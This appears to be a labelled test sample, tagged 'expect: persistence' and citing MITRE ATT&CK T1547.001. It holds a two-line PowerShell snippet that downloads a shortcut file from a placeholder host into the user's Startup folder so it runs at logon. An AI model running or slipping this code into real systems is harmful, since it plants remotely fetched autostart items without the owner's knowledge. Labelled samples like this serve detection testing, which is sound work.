# expect: persistence | source: MITRE ATT&CK T1547.001
$f = [Environment]::GetFolderPath('Startup')
Invoke-WebRequest -Uri http://files.example.invalid/a.lnk -OutFile "$f\a.lnk"
